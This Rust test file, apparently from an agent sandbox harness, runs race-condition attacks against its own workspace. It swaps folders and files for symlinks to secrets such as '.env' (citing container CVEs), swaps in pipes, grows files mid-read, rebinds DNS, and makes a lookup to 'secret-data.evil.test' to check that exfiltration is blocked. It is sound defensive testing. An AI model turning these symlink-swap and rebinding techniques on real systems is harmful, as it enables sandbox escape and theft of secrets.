//! Races: someone changes the world between a check and its use, as fast as another thread can.
//!
//! Each needs some attempts to come through and some to be stopped, or nothing was tried.

use std::fs;
use std::net::IpAddr;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};

use harness_capability::fs::{Error, Workspace};
use harness_capability::http::{self, Client, Request};
use harness_capability::secrets::Handles;
use harness_dispatch::{Options, Project, Run};
use harness_policy::grant::Grant;
use harness_sandbox::outcome::Outcome;
use rustix::fs::{CWD, RenameFlags, renameat_with};
use serde_json::json;
use tokio::runtime::Runtime;

use crate::compose::component;
use crate::corpus::Coded;
use crate::guests::grant;
use crate::world::{Servers, World};

pub(crate) const CASES: &[Coded] = &[
    Coded {
        id: "links-101",
        tried: "swaps a folder for a link to outside while the host writes below it, 100,000 times (CVE-2018-15664; harvey A3)",
        run: |_, servers| swapped(servers, true),
        control: |_, servers| swapped(servers, false),
    },
    Coded {
        id: "links-102",
        tried: "swaps a folder for a link to outside while a script writes below it (CVE-2021-25741)",
        run: |runtime, servers| scripted(runtime, servers, true),
        control: |runtime, servers| scripted(runtime, servers, false),
    },
    Coded {
        id: "links-106",
        tried: "swaps a folder for a link to outside while a guest writes below it, 100,000 times",
        run: |runtime, servers| by_guest(runtime, servers, true),
        control: |runtime, servers| by_guest(runtime, servers, false),
    },
    Coded {
        id: "links-103",
        tried: "swaps a file for a link to a secret while the host reads it, 30,000 times",
        run: |_, servers| read(servers, true, SECRET_FILE),
        control: |_, servers| read(servers, false, SECRET_FILE),
    },
    Coded {
        id: "links-105",
        tried: "swaps a folder for a link to a closed one beside it while the host reads in it, 30,000 times",
        run: |_, servers| read(servers, true, CLOSED_FOLDER),
        control: |_, servers| read(servers, false, CLOSED_FOLDER),
    },
    Coded {
        id: "links-104",
        tried: "moves the folder in which a command is to start out of the workspace (CVE-2024-21626)",
        run: |runtime, servers| started(runtime, servers, true),
        control: |runtime, servers| started(runtime, servers, false),
    },
    Coded {
        id: "odd-101",
        tried: "lets a file grow while it is read, past what may be read",
        run: |_, servers| growing(servers, true),
        control: |_, servers| growing(servers, false),
    },
    Coded {
        id: "odd-102",
        tried: "puts a pipe in the place of a file between look and open",
        run: |_, servers| piped(servers, true),
        control: |_, servers| piped(servers, false),
    },
    Coded {
        id: "network-102",
        tried: "has names looked up that are not granted, to tell their owner something",
        run: |runtime, servers| looked_up(runtime, servers, false),
        control: |runtime, servers| looked_up(runtime, servers, true),
    },
    Coded {
        id: "network-101",
        tried: "flips a name between a public address and the loopback, 3,000 times (DNS rebinding)",
        run: rebound,
        control: |runtime, servers| {
            let port = servers.server.address.port();
            let client = Client::resolving(|_| vec![IpAddr::from([127, 0, 0, 1])]);
            let granted =
                grant(&format!("network: {{ allowed_domains: [{{ host: \"a.test:{port}\", private: true }}] }}"));
            let answer =
                runtime.block_on(client.send(&granted, &Handles::default(), get(format!("http://a.test:{port}/ok"))));
            answer.map(|answer| answer.body).map_err(|error| format!("{error:?}"))
        },
    },
];

/// Tries something for so many rounds, or until it says that it is enough, while another thread swaps two names back
/// and forth, or does not. Then once with each of them instead of the other: that some come through and some are
/// stopped is not left to which thread the machine has time for.
pub(crate) fn tried(
    swaps: bool,
    (one, other): (PathBuf, PathBuf),
    rounds: usize,
    mut attempt: impl FnMut(usize) -> bool,
) {
    let ((), swapped) = while_counting(swaps, one.clone(), other.clone(), || {
        let _ = (0..rounds).any(&mut attempt);
    });
    if !swaps {
        return;
    }
    let swap = || renameat_with(CWD, &one, CWD, &other, RenameFlags::EXCHANGE).unwrap();
    if swapped % 2 == 1 {
        swap();
    }
    // A multiple of all that attempts go by.
    attempt(rounds.next_multiple_of(8));
    swap();
    attempt(rounds.next_multiple_of(8));
    swap();
}

/// Runs `work` while another thread swaps two names back and forth, or does not, and shows how often they were swapped:
/// at least once, before it begins.
fn while_counting<T>(swaps: bool, one: PathBuf, other: PathBuf, work: impl FnOnce() -> T) -> (T, usize) {
    let (stop, swapped) = (AtomicBool::new(false), AtomicUsize::new(0));
    let done = std::thread::scope(|scope| {
        if swaps {
            scope.spawn(|| {
                while !stop.load(Ordering::Relaxed) {
                    renameat_with(CWD, &one, CWD, &other, RenameFlags::EXCHANGE).unwrap();
                    swapped.fetch_add(1, Ordering::Relaxed);
                }
            });
            while swapped.load(Ordering::Relaxed) == 0 {
                std::thread::yield_now();
            }
        }
        let done = work();
        stop.store(true, Ordering::Relaxed);
        done
    });
    (done, swapped.into_inner())
}

/// A world with a folder, and beside it a link to outside that takes its place.
fn with_bait(servers: &Servers) -> (World, Workspace, Grant) {
    let mut world = World::new(servers);
    for thing in [["link", "bait", "{outside}"], ["file", "dir/log", ""], ["file", "source/a", "1"]] {
        world.add(&thing.map(|word| world.filled(word, "")));
    }
    world.seal();
    let workspace = Workspace::open(&world.work()).unwrap();
    (world, workspace, grant(""))
}

/// What came through and what was stopped; an error where nothing was tried or something outside was changed.
fn told(world: &World, attack: bool, through: usize, stopped: usize) -> Result<String, String> {
    let broken = world.broken();
    if !broken.is_empty() {
        return Err(broken.join("; "));
    }
    if through == 0 || (stopped == 0) == attack {
        return Err(format!("{through} came through and {stopped} were stopped"));
    }
    Ok("stopped".to_owned())
}

fn swapped(servers: &Servers, attack: bool) -> Result<String, String> {
    let rounds = if attack { 100_000 } else { 100 };
    let (world, workspace, grant) = with_bait(servers);
    let (one, other) = (world.work().join("dir"), world.work().join("bait"));
    let (mut through, mut stopped) = (0, 0);
    let mut count = |result: Result<String, Error>| match result {
        Ok(_) => through += 1,
        Err(Error::AccessDenied(_) | Error::Io(_)) => stopped += 1,
        // What was made a moment ago may lie in the other folder now.
        Err(_) => {}
    };
    tried(attack, (one, other), rounds, |round| {
        count(match round % 8 {
            0..4 => workspace.append(&grant, "dir/log", "x"),
            4 => workspace.mkdir(&grant, &format!("dir/sub/{}", round % 70)),
            5 => workspace.write(&grant, "dir/deep/er/file", "x"),
            6 => workspace.copy(&grant, "source", &format!("dir/copy{round}")),
            _ => workspace.remove(&grant, "dir/canary.txt").or_else(|_| workspace.append(&grant, "dir/new", "x")),
        });
        false
    });
    if world.work().join("stolen").exists() {
        return Err("a file was taken from outside".to_owned());
    }
    told(&world, attack, through, stopped)
}

/// What is closed, what is swapped with a link to it, and what is read.
const SECRET_FILE: [&str; 3] = [".env", "file", "file"];
const CLOSED_FOLDER: [&str; 3] = ["agents", "dir", "dir/team.md"];

fn read(servers: &Servers, attack: bool, [closed, swapped, path]: [&str; 3]) -> Result<String, String> {
    let mut world = World::new(servers);
    for thing in [["link", "bait", closed], ["file", path, "harmless"]] {
        world.add(&thing.map(|word| world.filled(word, "")));
    }
    world.seal();
    let (workspace, grant) = (Workspace::open(&world.work()).unwrap(), grant(""));
    let (one, other) = (world.work().join(swapped), world.work().join("bait"));
    let (mut through, mut stopped, mut leaked) = (0, 0, false);
    tried(attack, (one, other), if attack { 30_000 } else { 100 }, |_| {
        match workspace.read(&grant, path) {
            Ok(text) => {
                leaked |= text != "harmless";
                through += 1;
            }
            Err(_) => stopped += 1,
        }
        false
    });
    if leaked { Err("the canary was read".to_owned()) } else { told(&world, attack, through, stopped) }
}

/// A project with one tool.
pub(crate) fn project(world: &World, policy: &str, script: &str) -> Project {
    let home = world.work().join(".harness");
    fs::create_dir_all(home.join("tools")).unwrap();
    fs::write(home.join("harness.md"), format!("---\n{policy}\n---\n")).unwrap();
    let script: String = script.lines().map(|line| format!("  {line}\n")).collect();
    fs::write(home.join("tools/it.md"), format!("---\nscript: |\n{script}---\n# it\n")).unwrap();
    Project::open(&world.work(), Options::default()).unwrap()
}

fn scripted(runtime: &Runtime, servers: &Servers, attack: bool) -> Result<String, String> {
    let (mut world, ..) = with_bait(servers);
    let script = "def run(args):\n    for i in range(40):\n        fs.append('dir/log', 'x')\n        fs.mkdir('dir/sub/%d' % i)\n    return 'all'\n";
    let project = project(&world, "sandbox: { audit: false }", script);
    world.seal();
    let (one, other) = (world.work().join("dir"), world.work().join("bait"));
    let (mut through, mut stopped) = (0, 0);
    let run = Run::new();
    tried(attack, (one, other), if attack { 2_000 } else { 5 }, |_| {
        match runtime.block_on(project.call("it", json!({}), &run)).unwrap().outcome {
            Outcome::Completed(_) => through += 1,
            Outcome::Denied { .. } | Outcome::Failed(_) => stopped += 1,
            other => panic!("{other:?}"),
        }
        through > 5 && stopped > 500
    });
    told(&world, attack, through, stopped)
}

/// A guest that continues where it was refused, which a script cannot: all its writes are made in one call.
const WRITES: &str = r#"
(data (i32.const 1024) "dir/logdir/sub/xdir/new")
(global $failed (mut i32) (i32.const 0))
(func $count (if (i32.load8_u (i32.const 512)) (then (global.set $failed (i32.add (global.get $failed) (i32.const 1))))))
(func (export "run") (param i32 i32) (result i32) (local $n i32) (local $at i32)
    (loop $more
        (if (i32.and (local.get $n) (i32.const 1))
            (then (call $fs.append (i32.const 1024) (i32.const 7) (i32.const 1024) (i32.const 1) (i32.const 512)))
            (else (if (i32.and (local.get $n) (i32.const 2))
                (then (call $fs.mkdir (i32.const 1031) (i32.const 9) (i32.const 512)))
                (else (call $fs.write (i32.const 1040) (i32.const 7) (i32.const 1024) (i32.const 1) (i32.const 512))))))
        (call $count)
        ;; What it is answered goes to the same place each time.
        (global.set $free (i32.const 32768))
        (local.set $n (i32.add (local.get $n) (i32.const 1)))
        (br_if $more (i32.lt_u (local.get $n) (i32.const {writes}))))
    ;; How many were refused, as a text of eight digits.
    (local.set $at (i32.const 1108))
    (i32.store8 (i32.const 1109) (i32.const 34))
    (loop $digits
        (i32.store8 (local.get $at) (i32.add (i32.const 48) (i32.rem_u (global.get $failed) (i32.const 10))))
        (global.set $failed (i32.div_u (global.get $failed) (i32.const 10)))
        (local.set $at (i32.sub (local.get $at) (i32.const 1)))
        (br_if $digits (i32.gt_u (local.get $at) (i32.const 1100))))
    (i32.store8 (i32.const 1100) (i32.const 34))
    (call $give (i32.const 1100) (i32.const 10)))
"#;

fn by_guest(runtime: &Runtime, servers: &Servers, attack: bool) -> Result<String, String> {
    let (mut world, ..) = with_bait(servers);
    let limits = "fuel: 100000000000000, files: 10000000, host_calls: 10000000, timeout_ms: 120000";
    let policy = format!("sandbox: {{ audit: false, limits: {{ {limits} }} }}");
    let project = project(&world, &policy, "def run(args):\n    return 'a guest stands in'\n");
    let writes = if attack { 100_000 } else { 100 };
    let imports = ["fs.append", "fs.mkdir", "fs.write"].map(str::to_owned);
    let guest = || component(&imports, &WRITES.replace("{writes}", &writes.to_string()));
    project.loaded().stand_in("it", guest).unwrap();
    world.seal();
    let (one, other) = (world.work().join("dir"), world.work().join("bait"));
    let called = || runtime.block_on(project.call("it", json!({}), &Run::new())).unwrap();
    let (report, swaps) = while_counting(attack, one, other, called);
    let stopped: usize = match report.outcome {
        Outcome::Completed(_) => report.content.parse().unwrap(),
        other => return Err(format!("{other:?}")),
    };
    if attack {
        println!(
            "    links-106: {writes} writes, {stopped} of them refused, while the folder was swapped {swaps} times"
        );
    }
    told(&world, attack, writes - stopped, stopped)
}

fn started(runtime: &Runtime, servers: &Servers, attack: bool) -> Result<String, String> {
    let (mut world, ..) = with_bait(servers);
    let script = "def run(args):\n    return exec.run('touch', ['new'], dir = 'dir')['ok']\n";
    let project = project(&world, "sandbox: { audit: false, exec: { allow: [touch] } }", script);
    world.seal();
    let (one, other) = (world.work().join("dir"), world.work().join("bait"));
    let (mut through, mut stopped) = (0, 0);
    let run = Run::new();
    tried(attack, (one, other), if attack { 200 } else { 3 }, |_| {
        match runtime.block_on(project.call("it", json!({}), &run)).unwrap().outcome {
            Outcome::Completed(_) => through += 1,
            Outcome::Denied { .. } | Outcome::Failed(_) => stopped += 1,
            other => panic!("{other:?}"),
        }
        false
    });
    told(&world, attack, through, stopped)
}

fn growing(servers: &Servers, attack: bool) -> Result<String, String> {
    let mut world = World::new(servers);
    world.seal();
    let path = world.work().join("grows");
    fs::write(&path, "x").unwrap();
    let (workspace, grant) =
        (Workspace::open(&world.work()).unwrap(), grant("sandbox: { limits: { file_bytes: 65536 } }"));
    let (stop, grown) = (AtomicBool::new(false), AtomicUsize::new(0));
    let mut refused = false;
    std::thread::scope(|scope| {
        scope.spawn(|| {
            use std::io::Write as _;
            let mut file = fs::OpenOptions::new().append(true).open(&path).unwrap();
            while attack && !stop.load(Ordering::Relaxed) && grown.load(Ordering::Relaxed) < 64 << 20 {
                file.write_all(&[b'x'; 4096]).unwrap();
                grown.fetch_add(4096, Ordering::Relaxed);
            }
        });
        loop {
            // Looked at first: what is read after the last byte was added is too much.
            let whole = grown.load(Ordering::Relaxed) >= 64 << 20;
            match workspace.read(&grant, "grows") {
                Ok(text) => assert!(text.len() <= 65536, "{} bytes were read", text.len()),
                Err(Error::TooLarge(65536)) => refused = true,
                Err(other) => panic!("{other:?}"),
            }
            if refused || whole || !attack {
                break;
            }
        }
        stop.store(true, Ordering::Relaxed);
    });
    told(&world, attack, 1, usize::from(refused))
}

fn piped(servers: &Servers, attack: bool) -> Result<String, String> {
    let mut world = World::new(servers);
    world.add(&["fifo".to_owned(), "pipe".to_owned()]);
    world.add(&["file".to_owned(), "file".to_owned(), "text".to_owned()]);
    world.seal();
    let (workspace, grant) = (Workspace::open(&world.work()).unwrap(), grant(""));
    let (one, other) = (world.work().join("file"), world.work().join("pipe"));
    let (mut through, mut stopped) = (0, 0);
    // Were the pipe waited for, this would not end.
    tried(attack, (one, other), if attack { 20_000 } else { 100 }, |_| {
        match workspace.read(&grant, "file") {
            Ok(_) => through += 1,
            Err(_) => stopped += 1,
        }
        false
    });
    told(&world, attack, through, stopped)
}

fn get(url: String) -> Request {
    Request { method: "GET".to_owned(), url, headers: Vec::new(), body: None, timeout_ms: 5_000 }
}

fn rebound(runtime: &Runtime, servers: &Servers) -> Result<String, String> {
    let port = servers.trap.address.port();
    let asked = Arc::new(AtomicUsize::new(0));
    let count = asked.clone();
    // Nobody is there at the documentation address, and no packet leaves the machine for it: the kind is refused too.
    let client = Client::resolving(move |_| match count.fetch_add(1, Ordering::Relaxed) % 3 {
        0 => vec![IpAddr::from([127, 0, 0, 1])],
        1 => vec![IpAddr::from([192, 0, 2, 1]), IpAddr::from([127, 0, 0, 1])],
        _ => vec!["::ffff:127.0.0.1".parse().unwrap()],
    });
    let granted = grant(&format!("network: {{ allowed_domains: [\"a.test:{port}\", \"*\"] }}"));
    for _ in 0..3000 {
        match runtime.block_on(client.send(&granted, &Handles::default(), get(format!("http://a.test:{port}/")))) {
            Err(http::Error::AccessDenied(_)) => {}
            other => return Err(format!("{other:?}")),
        }
    }
    if asked.load(Ordering::Relaxed) != 3000 {
        return Err("a name was looked up more or less than once for each request".to_owned());
    }
    Ok("denied".to_owned())
}

fn looked_up(runtime: &Runtime, servers: &Servers, granted: bool) -> Result<String, String> {
    let port = servers.server.address.port();
    let asked = Arc::new(AtomicUsize::new(0));
    let count = asked.clone();
    let client = Client::resolving(move |_| {
        count.fetch_add(1, Ordering::Relaxed);
        vec![IpAddr::from([127, 0, 0, 1])]
    });
    let host = if granted { "secret-data.evil.test" } else { "other.test" };
    let grant = grant(&format!("network: {{ allowed_domains: [{{ host: \"{host}:{port}\", private: true }}] }}"));
    let answer = runtime.block_on(client.send(
        &grant,
        &Handles::default(),
        get(format!("http://secret-data.evil.test:{port}/ok")),
    ));
    match (granted, answer, asked.load(Ordering::Relaxed)) {
        (false, Err(http::Error::AccessDenied(_)), 0) => Ok("denied".to_owned()),
        (true, Ok(answer), 1) => Ok(answer.body),
        other => Err(format!("{other:?}")),
    }
}
